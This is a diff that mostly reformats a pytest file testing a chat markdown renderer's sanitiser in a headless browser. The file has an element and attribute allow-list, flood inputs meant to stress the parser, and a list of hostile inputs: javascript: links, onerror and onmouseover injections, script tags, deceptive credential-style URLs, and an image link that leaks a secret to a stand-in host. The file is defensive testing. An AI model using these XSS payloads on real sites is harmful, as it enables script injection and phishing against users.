@@ -20,18 +20,61 @@ import pytest
 
 STATIC = Path(__file__).parents[2] / "run" / "chat_stream" / "static"
 FLAGS = (
-    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
-    "--disable-background-networking", "--disable-component-update", "--disable-sync",
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
 )
 PAGE = b"<!doctype html><meta charset=utf-8><title>probe</title><main id=out></main>"
 ELEMENTS = {
-    "A", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DIV", "EM", "FIGCAPTION", "FIGURE", "H3",
-    "H4", "H5", "H6", "HR", "INPUT", "LI", "OL", "P", "PRE", "SPAN", "STRONG", "TABLE", "TBODY",
-    "TD", "TH", "THEAD", "TR", "UL",
+    "A",
+    "BLOCKQUOTE",
+    "BR",
+    "BUTTON",
+    "CODE",
+    "DEL",
+    "DIV",
+    "EM",
+    "FIGCAPTION",
+    "FIGURE",
+    "H3",
+    "H4",
+    "H5",
+    "H6",
+    "HR",
+    "INPUT",
+    "LI",
+    "OL",
+    "P",
+    "PRE",
+    "SPAN",
+    "STRONG",
+    "TABLE",
+    "TBODY",
+    "TD",
+    "TH",
+    "THEAD",
+    "TR",
+    "UL",
 }
 ATTRIBUTES = {
-    "aria-label", "checked", "class", "dir", "disabled", "href", "rel", "role", "start",
-    "tabindex", "target", "title", "type",
+    "aria-label",
+    "checked",
+    "class",
+    "dir",
+    "disabled",
+    "href",
+    "rel",
+    "role",
+    "start",
+    "tabindex",
+    "target",
+    "title",
+    "type",
 }
 RUN = "window.ran=1"
 HOSTILE = (
@@ -52,11 +95,11 @@ HOSTILE = (
     "[x](//evil.example/) [y](/account/delete) [z](?q=1) [w](#token=1)",
     "[bank](https://bank.example@evil.example/) <https://user:secret@evil.example/>",
     f'[x](https://e.example/ "\' onmouseover={RUN} x=")',
-    f"[x](https://e.example/\"onmouseover={RUN})",
-    f"![x](https://e.example/leak?q=secret) ![y](x\"onerror=\"{RUN})",
+    f'[x](https://e.example/"onmouseover={RUN})',
+    f'![x](https://e.example/leak?q=secret) ![y](x"onerror="{RUN})',
     f"![a](javascript:{RUN}) [![b](https://e.example/p.png)](javascript:{RUN})",
     f"[a [b](https://e.example/b) c](javascript:{RUN})",
-    f"```html\" onmouseover=\"{RUN}\n</code></pre><script>{RUN}</script>\n```",
+    f'```html" onmouseover="{RUN}\n</code></pre><script>{RUN}</script>\n```',
     f"```\n</pre><img src=x onerror={RUN}>",
     f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| [x](javascript:{RUN}) | <script>{RUN} |",
     f"> # <svg onload={RUN}>\n> - [ ] <input autofocus onfocus={RUN}>",
@@ -69,11 +112,28 @@ HOSTILE = (
 )
 LONG = 60_000
 FLOODS = (
-    "[" * LONG, "](" * (LONG // 2), "[](" * (LONG // 3), "![" * (LONG // 2), "*" * LONG,
-    "*a " * (LONG // 3), "**a*" * (LONG // 4), "_a" * (LONG // 2), "`a``" * (LONG // 4),
-    "> " * (LONG // 2), "- " * (LONG // 2), "-" + " " * LONG + "x", "|" * LONG,
-    "a|b\n-" + " " * LONG + "x", "<" * LONG, "https://" * (LONG // 8), "&" * LONG,
-    "(" * LONG, "[a](" + "(" * LONG, "\n- a" * (LONG // 4), "~~a" * (LONG // 3), "#" * LONG,
+    "[" * LONG,
+    "](" * (LONG // 2),
+    "[](" * (LONG // 3),
+    "![" * (LONG // 2),
+    "*" * LONG,
+    "*a " * (LONG // 3),
+    "**a*" * (LONG // 4),
+    "_a" * (LONG // 2),
+    "`a``" * (LONG // 4),
+    "> " * (LONG // 2),
+    "- " * (LONG // 2),
+    "-" + " " * LONG + "x",
+    "|" * LONG,
+    "a|b\n-" + " " * LONG + "x",
+    "<" * LONG,
+    "https://" * (LONG // 8),
+    "&" * LONG,
+    "(" * LONG,
+    "[a](" + "(" * LONG,
+    "\n- a" * (LONG // 4),
+    "~~a" * (LONG // 3),
+    "#" * LONG,
     "[" + "a-" * (LONG // 2) + "](https://e.example)",
 )
 INSPECT = """async ({texts, piece}) => {
@@ -227,7 +287,9 @@ def test_hostile_text_never_runs_loads_or_leads_astray(page: Any, piece: int) ->
 
 def test_a_link_that_names_another_host_shows_its_own(page: Any) -> None:
     """A label that looks like an address of another site gets the true host beside it."""
-    text = "[https://bank.example/login](https://evil.example/) [www.ok.example](https://ok.example/)"
+    text = (
+        "[https://bank.example/login](https://evil.example/) [www.ok.example](https://ok.example/)"
+    )
     found = page.evaluate(INSPECT, {"texts": [text], "piece": 0})
 
     assert found["text"] == ["https://bank.example/login (evil.example) www.ok.example"]
@@ -246,9 +308,15 @@ def test_streaming_ends_with_what_rendering_at_once_gives(page: Any) -> None:
 
     assert found["differing"] == []
     for part in (
-        "<h3 dir=\"auto\">Plan for <strong>Thursday</strong></h3>", "<em>soft</em>",
-        "snake_case_name, 2 * 3 * 4 and <del>gone</del>", "<td class=\"align-end\" dir=\"auto\">",
-        "a | b", "print(\"&lt;b&gt;\")\n\nx = 1", "href=\"https://example.org/a_(b)\"",
-        "href=\"mailto:hello@example.org\"", "<hr>", "href=\"https://example.org/x?y=1\"",
+        '<h3 dir="auto">Plan for <strong>Thursday</strong></h3>',
+        "<em>soft</em>",
+        "snake_case_name, 2 * 3 * 4 and <del>gone</del>",
+        '<td class="align-end" dir="auto">',
+        "a | b",
+        'print("&lt;b&gt;")\n\nx = 1',
+        'href="https://example.org/a_(b)"',
+        'href="mailto:hello@example.org"',
+        "<hr>",
+        'href="https://example.org/x?y=1"',
     ):
         assert part in found["html"], part
